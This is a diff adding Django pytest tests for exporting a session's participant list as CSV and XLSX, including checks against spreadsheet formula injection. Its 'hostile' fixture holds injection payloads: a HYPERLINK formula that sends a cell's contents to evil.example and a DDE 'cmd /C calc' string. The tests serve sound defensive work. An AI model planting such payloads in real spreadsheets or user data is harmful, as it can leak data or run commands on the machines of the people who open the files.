@@ -1,0 +1,199 @@
+"""A session's list as CSV and XLSX: read back with the csv module and openpyxl."""
+
+import csv
+import datetime as dt
+import io
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from participants.models import Registration
+from tests import factories
+
+OSLO = ZoneInfo("Europe/Oslo")
+
+HEADERS = ["Navn", "Kommune eller enhet", "Rolle", "E-post", "Telefon", "Kostbehov", "Status"]
+
+
+@pytest.fixture
+def session(programme):
+    return factories.SessionFactory(
+        programme=programme,
+        title="Pårørendes rettigheter / «lov»",
+        starts_at=dt.datetime(2031, 11, 23, 9, 0, tzinfo=OSLO),
+        ends_at=dt.datetime(2031, 11, 23, 15, 0, tzinfo=OSLO),
+        registration_deadline=dt.datetime(2031, 11, 16, 9, 0, tzinfo=OSLO),
+    )
+
+
+@pytest.fixture
+def registrations(session, organisation):
+    confirmed = factories.RegistrationFactory(
+        session=session,
+        participant=factories.ParticipantFactory(
+            full_name="Åse Ærlig",
+            organisation=organisation,
+            phone="91763827",
+            dietary_needs="Glutenfri, laktoseallergi",
+            user__email="ase@gjovik.kommune.no",
+        ),
+    )
+    waiting = factories.RegistrationFactory(
+        session=session,
+        status=Registration.Status.WAITLISTED,
+        confirmed_at=None,
+        waitlisted_at=timezone.now(),
+        participant=factories.LeaderFactory(
+            full_name="Øystein Leder", organisation=organisation, user__email="oy@example.no"
+        ),
+    )
+    gone = factories.RegistrationFactory(
+        session=session,
+        status=Registration.Status.CANCELLED,
+        cancelled_at=timezone.now(),
+        participant__full_name="Cecilie Avmeldt",
+    )
+    return confirmed, waiting, gone
+
+
+@pytest.fixture
+def hostile(session):
+    """A person whose profile was written to attack the coordinator's spreadsheet."""
+    return factories.RegistrationFactory(
+        session=session,
+        participant=factories.ParticipantFactory(
+            full_name='=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
+            job_title="Angriper",
+            phone="+4791763827",
+            dietary_needs="@SUM(1+1)*cmd|' /C calc'!A0",
+            organisation=factories.OrganisationFactory(name="-2+3"),
+        ),
+    )
+
+
+def csv_rows(response):
+    raw = b"".join(response.streaming_content) if response.streaming else response.content
+    assert raw.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+
+
+def xlsx_sheet(response):
+    return openpyxl.load_workbook(io.BytesIO(response.content)).active
+
+
+def test_it_exports_csv_with_a_bom_semicolons_and_norwegian_headers(
+    login, coordinator, session, registrations
+):
+    response = login(coordinator).get(
+        reverse("participants:coordinator_export_csv", args=[session.pk])
+    )
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    rows = csv_rows(response)
+    assert rows[0] == HEADERS
+    assert rows[1:] == [
+        [
+            "Åse Ærlig",
+            "Gjøvik kommune",
+            "Tjenesteutøver",
+            "ase@gjovik.kommune.no",
+            "91763827",
+            "Glutenfri, laktoseallergi",
+            "Påmeldt",
+        ],
+        [
+            "Øystein Leder",
+            "Gjøvik kommune",
+            "Leder",
+            "oy@example.no",
+            "40000000",
+            "",
+            "På venteliste nr. 1",
+        ],
+        [
+            "Cecilie Avmeldt",
+            registrations[2].participant.organisation.name,
+            "Tjenesteutøver",
+            registrations[2].participant.user.email,
+            "40000000",
+            "",
+            "Avmeldt",
+        ],
+    ]
+
+
+def test_it_exports_xlsx_with_the_same_rows(login, coordinator, session, registrations):
+    client = login(coordinator)
+    csv_response = client.get(reverse("participants:coordinator_export_csv", args=[session.pk]))
+    response = client.get(reverse("participants:coordinator_export_xlsx", args=[session.pk]))
+    assert response["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    sheet = xlsx_sheet(response)
+    rows = [
+        [cell if cell is not None else "" for cell in row]
+        for row in sheet.iter_rows(values_only=True)
+    ]
+    assert rows == csv_rows(csv_response)
+    assert rows[0] == HEADERS
+    assert sheet["A1"].font.bold
+
+
+def test_it_names_the_files_safely(login, coordinator, session, registrations):
+    client = login(coordinator)
+    for name, extension in [("coordinator_export_csv", "csv"), ("coordinator_export_xlsx", "xlsx")]:
+        response = client.get(reverse(f"participants:{name}", args=[session.pk]))
+        expected = f"deltakerliste-parorendes-rettigheter-lov-2031-11-23.{extension}"
+        assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
+        assert response["Cache-Control"] == "private, no-store"
+
+
+def test_it_neutralises_formulas_in_csv(login, coordinator, session, hostile):
+    response = login(coordinator).get(
+        reverse("participants:coordinator_export_csv", args=[session.pk])
+    )
+    [row] = csv_rows(response)[1:]
+    assert row[0] == "'" + hostile.participant.full_name
+    assert row[1] == "'-2+3"
+    assert row[4] == "'+4791763827"
+    assert row[5] == "'" + hostile.participant.dietary_needs
+    for cell in row:
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+
+
+def test_it_neutralises_formulas_in_xlsx(login, coordinator, session, hostile):
+    response = login(coordinator).get(
+        reverse("participants:coordinator_export_xlsx", args=[session.pk])
+    )
+    sheet = xlsx_sheet(response)
+    cells = list(sheet.iter_rows(min_row=2))[0]
+    assert cells[0].value == "'" + hostile.participant.full_name
+    for cell in cells:
+        assert cell.data_type == "s", cell.coordinate
+        assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.coordinate
+
+
+def test_it_exports_only_the_header_for_an_empty_session(login, coordinator, session):
+    response = login(coordinator).get(
+        reverse("participants:coordinator_export_csv", args=[session.pk])
+    )
+    assert csv_rows(response) == [HEADERS]
+
+
+def test_its_query_count_stays_the_same_with_ten_times_the_registrations(
+    login, coordinator, session, assert_queries
+):
+    client = login(coordinator)
+    url = reverse("participants:coordinator_export_xlsx", args=[session.pk])
+    factories.RegistrationFactory.create_batch(3, session=session)
+    # 1 auth session, 2 user, 3 the coordinator's participant row (permission check),
+    # 4 the session with programme, venue and seat counts, 5 how many sessions of its kind,
+    # 6 every registration with participant, user and organisation
+    with assert_queries(6):
+        client.get(url)
+    factories.RegistrationFactory.create_batch(27, session=session)
+    with assert_queries(6):
+        response = client.get(url)
+    assert xlsx_sheet(response).max_row == 31
